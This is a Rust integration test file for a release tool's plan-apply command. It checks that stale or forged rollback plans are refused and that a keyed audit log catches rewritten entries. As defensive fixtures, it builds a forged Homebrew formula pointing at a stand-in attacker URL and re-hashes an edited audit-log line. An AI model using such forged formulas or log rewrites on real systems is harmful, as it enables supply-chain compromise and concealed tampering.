//! `bagboy apply PLAN.json`: the reviewed-PR flow on a real `docker-registry` and a real tap.
//! A plan saved by `rollback --dry-run --format json` runs exactly; a stale one (history edited,
//! a tag or the tap moved) exits 4 and a forged one (unrecorded digest, foreign content or
//! registry) exits 2, with the registry, the tap and the history unchanged.

use crate::support;

use std::collections::BTreeMap;
use std::process::Command;

use serde_json::Value;
use support::cli::{Project, Run};
use support::tap::{goreleaser_formula, TestTap};
use support::{Auth, TestRegistry};

const VERSIONS: [&str; 3] = ["v1.0.0", "v1.1.0", "v1.2.0"];
const TAGS: [&str; 7] = ["v1.0.0", "v1.1.0", "v1.2.0", "latest", "1.0", "1.1", "1.2"];
const FORMULA: &str = "Formula/myapp.rb";
const REPO: &str = "acme/app";

struct Fixture {
    reg: TestRegistry,
    tap: TestTap,
    project: Project,
    digests: BTreeMap<&'static str, String>,
}

/// What a test compares before and after: every tag, the tap head, the history bytes.
#[derive(Debug, PartialEq)]
struct World {
    tags: BTreeMap<&'static str, Option<String>>,
    tap_head: String,
    history: Vec<u8>,
}

impl Fixture {
    /// Three releases on the registry and the tap, each recorded.
    fn new() -> Fixture {
        let reg = TestRegistry::start(Auth::None);
        let tap = TestTap::new();
        let project = Project::new();
        std::fs::create_dir_all(project.path().join("docker-config")).unwrap();
        project.write(
            "bagboy.yaml",
            &format!(
                "name: myapp\nregistries:\n  - format: docker\n    registry: \"{}\"\n    insecure: true\n  - format: brew\n    registry: acme/homebrew-tap\n    remote: \"{}\"\n    branch: main\n",
                reg.repo(REPO),
                tap.url()
            ),
        );
        let mut f = Fixture {
            reg,
            tap,
            project,
            digests: BTreeMap::new(),
        };
        for v in VERSIONS {
            let d = f.reg.push_image(REPO, v);
            let minor = &v[1..4];
            f.reg.put_tag(REPO, "latest", &d);
            f.reg.put_tag(REPO, minor, &d);
            f.digests.insert(v, d);
            f.tap.commit_file(
                FORMULA,
                &goreleaser_formula("myapp", v.trim_start_matches('v')),
                &format!("Brew formula update for myapp version {v}"),
            );
            f.tap.push();
            let run = f.run(&["record", "--version", v]);
            assert_eq!(run.code, Some(0), "record {v}: {}", run.show());
        }
        f
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let p = self.project.path();
        let mut c = support::cli::isolated(p);
        c.args(args).env("BAGBOY_ACTOR", "apply-test");
        c
    }

    fn run(&self, args: &[&str]) -> Run {
        let out = self.cmd(args).output().expect("run bagboy");
        Run::of(out)
    }

    /// `rollback --dry-run --format json` to v1.1.0, saved as `plan.json`.
    fn save_plan(&self) -> Value {
        let run = self.run(&[
            "rollback",
            "--version",
            "v1.1.0",
            "--dry-run",
            "--format",
            "json",
        ]);
        assert_eq!(run.code, Some(0), "{}", run.show());
        self.project.write("plan.json", &run.stdout);
        serde_json::from_str(&run.stdout).expect("plan is JSON")
    }

    fn write_plan(&self, plan: &Value) {
        self.project
            .write("plan.json", &serde_json::to_string_pretty(plan).unwrap());
    }

    fn world(&self) -> World {
        World {
            tags: TAGS
                .iter()
                .map(|t| (*t, self.reg.tag_digest(REPO, t)))
                .collect(),
            tap_head: self.tap.head(),
            history: self.project.history_bytes(),
        }
    }

    fn formula(&self) -> String {
        self.tap.file_in_fresh_clone(FORMULA).unwrap_or_default()
    }
}

fn changing_steps(plan: &Value) -> Vec<(String, String)> {
    plan["registries"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| {
            let name = r["registry"].as_str().unwrap().to_string();
            r["steps"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|s| !matches!(s["action"].as_str(), Some("unchanged" | "left_in_place")))
                .map(move |s| (name.clone(), s["reference"].as_str().unwrap().to_string()))
                .collect::<Vec<_>>()
        })
        .collect()
}

fn step_mut<'a>(plan: &'a mut Value, reference: &str) -> &'a mut Value {
    plan["registries"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .flat_map(|r| r["steps"].as_array_mut().unwrap().iter_mut())
        .find(|s| s["reference"] == reference)
        .unwrap_or_else(|| panic!("no step {reference}"))
}

#[test]
fn a_saved_plan_applies_exactly_its_steps() {
    let f = Fixture::new();
    let plan = f.save_plan();
    assert_eq!(plan["schema"], 2);
    assert!(plan["history_sha256"]
        .as_str()
        .is_some_and(|s| s.starts_with("sha256:")));
    let mut steps = changing_steps(&plan);
    steps.sort();
    let repo = f.reg.repo(REPO);
    let mut expected = vec![
        ("acme/homebrew-tap".to_string(), FORMULA.to_string()),
        (repo.clone(), "latest".to_string()),
    ];
    expected.sort();
    assert_eq!(steps, expected, "{plan:#}");
    let before = f.world();

    let run = f.run(&["apply", "plan.json", "--yes", "--format", "json"]);
    assert_eq!(run.code, Some(0), "{}", run.show());
    let out: Value = serde_json::from_str(&run.stdout).expect("outcome json");
    assert_eq!(out["outcome"]["kind"], "rolled_back");
    let mut ran: Vec<(String, String)> = out["outcome"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            assert_eq!(s["ok"], true, "{s}");
            (
                s["registry"].as_str().unwrap().to_string(),
                s["reference"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    ran.sort();
    assert_eq!(ran, steps, "apply ran exactly the plan's changing steps");

    // The registry: only `latest` moved, to the target's digest.
    let after = f.world();
    let v110 = f.digests["v1.1.0"].clone();
    for (tag, digest) in &after.tags {
        if *tag == "latest" {
            assert_eq!(digest.as_deref(), Some(v110.as_str()));
        } else {
            assert_eq!(digest, &before.tags[tag], "{tag} untouched");
        }
    }
    // The tap: one new commit holding v1.1.0's formula.
    assert_ne!(after.tap_head, before.tap_head);
    assert!(f.formula().contains("1.1.0"), "{}", f.formula());
    // The history: v1.1.0 deployed as a rollback of v1.2.0.
    let list = f.run(&["versions", "list", "--format", "json"]);
    let doc: Value = serde_json::from_str(&list.stdout).unwrap();
    assert_eq!(doc["current"], "v1.1.0");
    assert_eq!(doc["deployments"][0]["rollback_of"], "v1.2.0");
    assert!(!f.project.path().join(".bagboy/lock").exists());

    // The same file again: the history it was planned from is gone.
    let again = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(again.code, Some(4), "{}", again.show());
    assert!(
        again.stderr.contains("changed since the plan was made"),
        "{}",
        again.show()
    );
    assert_eq!(f.world(), after, "nothing changed");
}

#[test]
fn stale_plans_exit_4_and_change_nothing() {
    let f = Fixture::new();

    // A tag moved after the plan was made.
    f.save_plan();
    let v100 = f.digests["v1.0.0"].clone();
    f.reg.put_tag(REPO, "latest", &v100);
    let before = f.world();
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(4), "{}", run.show());
    assert!(
        run.stderr.contains("latest: was ") && run.stderr.contains("registries changed"),
        "{}",
        run.show()
    );
    assert_eq!(f.world(), before);
    let v120 = f.digests["v1.2.0"].clone();
    f.reg.put_tag(REPO, "latest", &v120);

    // The history was edited after the plan was made.
    f.save_plan();
    let mut text = f.project.history();
    text.push_str("# reviewed by a human\n");
    f.project.write_history(&text);
    let before = f.world();
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(4), "{}", run.show());
    assert!(
        run.stderr.contains("changed since the plan was made"),
        "{}",
        run.show()
    );
    assert_eq!(f.world(), before);

    // The tap moved: someone pushed a formula change after the plan.
    f.save_plan();
    f.tap.sync();
    f.tap.commit_file(
        FORMULA,
        &goreleaser_formula("myapp", "1.2.1"),
        "Brew formula update for myapp version v1.2.1",
    );
    f.tap.push();
    let before = f.world();
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(4), "{}", run.show());
    assert!(run.stderr.contains(FORMULA), "{}", run.show());
    assert_eq!(f.world(), before);
}

#[test]
fn forged_plans_exit_2_and_change_nothing() {
    let f = Fixture::new();
    let plan = f.save_plan();
    // An image the history never recorded for any release.
    let evil = f.reg.push_image(REPO, "evil");
    let before = f.world();
    let formula_before = f.formula();

    let mut forged = plan.clone();
    step_mut(&mut forged, "latest")["after"] = Value::String(evil.clone());
    f.write_plan(&forged);
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(
        run.stderr.contains("would not plan") && run.stderr.contains(&evil),
        "{}",
        run.show()
    );

    // Formula content from no recorded tap commit.
    let mut forged = plan.clone();
    let step = step_mut(&mut forged, FORMULA);
    step["data"]["restore"]["desired"] = Value::String(
        "class Myapp < Formula\n  url \"https://evil.example/x.tar.gz\"\nend\n".into(),
    );
    f.write_plan(&forged);
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(
        run.stderr.contains(FORMULA) && run.stderr.contains("content differs"),
        "{}",
        run.show()
    );

    // A tag step the plan never had, and a registry the config does not name.
    let mut forged = plan.clone();
    let mut extra = step_mut(&mut forged, "latest").clone();
    extra["reference"] = Value::String("1.0".into());
    extra["before"] = Value::String(f.digests["v1.0.0"].clone());
    forged["registries"][0]["steps"]
        .as_array_mut()
        .unwrap()
        .push(extra);
    f.write_plan(&forged);
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());

    let mut forged = plan.clone();
    let mut other = forged["registries"][0].clone();
    other["registry"] = Value::String(f.reg.repo("acme/other"));
    forged["registries"].as_array_mut().unwrap().push(other);
    f.write_plan(&forged);
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(run.stderr.contains("acme/other"), "{}", run.show());

    assert_eq!(f.world(), before, "nothing changed anywhere");
    assert_eq!(f.formula(), formula_before);
}

#[test]
fn apply_confirms_and_reads_only_plans() {
    let f = Fixture::new();
    f.save_plan();
    let before = f.world();
    // No terminal and no --yes: show the plan, refuse.
    let run = f.run(&["apply", "plan.json"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(
        run.stdout.contains("latest"),
        "the plan is shown: {}",
        run.show()
    );
    assert!(run.stderr.contains("--yes"), "{}", run.show());

    // Not JSON: the position is named.
    f.project
        .write("bad.json", "{\n  \"schema\": 2,\n  oops\n}\n");
    let run = f.run(&["apply", "bad.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(run.stderr.contains("bad.json:3:"), "{}", run.show());

    // Another schema.
    f.project.write("old.json", "{\"schema\": 1}");
    let run = f.run(&["apply", "old.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    assert!(run.stderr.contains("schema 1"), "{}", run.show());

    // A symlink and a FIFO are not read.
    std::os::unix::fs::symlink(
        f.project.path().join("plan.json"),
        f.project.path().join("link.json"),
    )
    .unwrap();
    let run = f.run(&["apply", "link.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    let fifo = f.project.path().join("fifo.json");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let run = f.run(&["apply", "fifo.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());

    // A refused plan stays refused.
    let mut plan = f.save_plan();
    plan["refusals"] = serde_json::json!(["v1.1.0 is marked `failed`"]);
    f.write_plan(&plan);
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(2), "{}", run.show());

    assert_eq!(f.world(), before);
}

/// The history's newest entry and the audit log's lines.
fn audit_lines(f: &Fixture) -> Vec<Value> {
    std::fs::read_to_string(f.project.path().join(".bagboy/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("audit line is JSON"))
        .collect()
}

#[test]
fn apply_goes_through_the_operation_door_and_audit_verify_checks_the_history() {
    let f = Fixture::new();
    f.save_plan();
    let before = audit_lines(&f).len();
    let run = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(run.code, Some(0), "{}", run.show());
    // One audit line for the apply, with the id the history's new entry names.
    let lines = audit_lines(&f);
    assert_eq!(lines.len(), before + 1, "{lines:#?}");
    let last = lines.last().unwrap();
    assert_eq!(last["operation"], "apply");
    assert_eq!(last["exit"], 0);
    let id = last["id"].as_str().unwrap().to_string();
    assert!(
        f.project.history().contains(&format!("audit: {id}"))
            || f.project.history().contains(&format!("audit: \"{id}\"")),
        "the history names the apply's audit id {id}:\n{}",
        f.project.history()
    );
    let ok = f.run(&["audit", "verify"]);
    assert_eq!(ok.code, Some(0), "{}", ok.show());
    assert!(
        ok.stdout.contains("accidental damage only"),
        "{}",
        ok.stdout
    );

    // The newest line deleted: the chain alone is still sound, the history is not.
    let path = f.project.path().join(".bagboy/audit.jsonl");
    let text = std::fs::read_to_string(&path).unwrap();
    let kept: Vec<&str> = text.lines().collect();
    std::fs::write(&path, format!("{}\n", kept[..kept.len() - 1].join("\n"))).unwrap();
    let bad = f.run(&["audit", "verify"]);
    assert_eq!(bad.code, Some(1), "{}", bad.show());
    assert!(
        bad.stderr.contains(&id) && bad.stderr.contains("not in the log"),
        "{}",
        bad.show()
    );
}

#[test]
fn a_keyed_audit_log_detects_a_rewritten_chain() {
    let f = Fixture::new();
    // Lines written before the key was set carry no hmac: a keyed verify names the first.
    let key = "an audit key only CI has";
    let unkeyed = f
        .cmd(&["audit", "verify"])
        .env("BAGBOY_AUDIT_KEY", key)
        .output()
        .unwrap();
    let unkeyed = Run::of(unkeyed);
    assert_eq!(unkeyed.code, Some(1), "{}", unkeyed.show());
    assert!(
        unkeyed.stderr.contains("carries no hmac"),
        "{}",
        unkeyed.show()
    );

    // From now on every line is keyed.
    std::fs::remove_file(f.project.path().join(".bagboy/audit.jsonl")).unwrap();
    let hist = f.project.history();
    // The history's old audit ids are gone with the log: start a fresh history for the test.
    let fresh: String = hist
        .lines()
        .filter(|l| !l.trim_start().starts_with("audit:"))
        .map(|l| format!("{l}\n"))
        .collect();
    f.project.write_history(&fresh);
    f.save_plan();
    let run = f
        .cmd(&["apply", "plan.json", "--yes"])
        .env("BAGBOY_AUDIT_KEY", key)
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(0), "{}", Run::of(run).show());
    let ok = Run::of(
        f.cmd(&["audit", "verify"])
            .env("BAGBOY_AUDIT_KEY", key)
            .output()
            .unwrap(),
    );
    assert_eq!(ok.code, Some(0), "{}", ok.show());
    assert!(ok.stdout.contains("without the key"), "{}", ok.stdout);

    // Someone without the key edits the line and re-hashes it: the chain checks, the key does not.
    let path = f.project.path().join(".bagboy/audit.jsonl");
    let line = std::fs::read_to_string(&path).unwrap();
    let line = line.trim_end();
    let edited = line.replace("\"exit\":0", "\"exit\":0,\"note\":\"forged\"");
    let at = edited.rfind(",\"sha256\":\"").unwrap();
    let body = format!("{}}}", &edited[..at]);
    let sha = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(body.as_bytes()))
    };
    std::fs::write(&path, format!("{},\"sha256\":\"{sha}\"}}\n", &edited[..at])).unwrap();
    let plain = f.run(&["audit", "verify"]);
    assert_eq!(
        plain.code,
        Some(0),
        "the chain alone cannot tell: {}",
        plain.show()
    );
    let keyed = Run::of(
        f.cmd(&["audit", "verify"])
            .env("BAGBOY_AUDIT_KEY", key)
            .output()
            .unwrap(),
    );
    assert_eq!(keyed.code, Some(1), "{}", keyed.show());
    assert!(
        keyed.stderr.contains("hmac does not match"),
        "{}",
        keyed.show()
    );
    assert!(!keyed.stderr.contains(key) && !keyed.stdout.contains(key));
}

#[test]
fn an_edited_refused_plan_never_runs() {
    let f = Fixture::new();
    // v1.1.0 may not be rolled back to.
    let hist = f.project.history();
    let marked = hist.replacen(
        "version: \"v1.1.0\"\n",
        "version: \"v1.1.0\"\n    rollback_safe: false\n",
        1,
    );
    assert_ne!(marked, hist, "{hist}");
    f.project.write_history(&marked);
    let run = f.run(&[
        "rollback",
        "--version",
        "v1.1.0",
        "--dry-run",
        "--format",
        "json",
    ]);
    assert_eq!(run.code, Some(2), "{}", run.show());
    let mut plan: Value = serde_json::from_str(&run.stdout).unwrap();
    assert!(!plan["refusals"].as_array().unwrap().is_empty(), "{plan:#}");
    plan["refusals"] = serde_json::json!([]);
    plan["force"] = serde_json::json!(true);
    f.write_plan(&plan);
    let before = f.world();
    let applied = f.run(&["apply", "plan.json", "--yes"]);
    assert_eq!(applied.code, Some(2), "{}", applied.show());
    assert!(applied.stderr.contains("--force"), "{}", applied.show());
    assert_eq!(f.world(), before, "nothing changed");
}
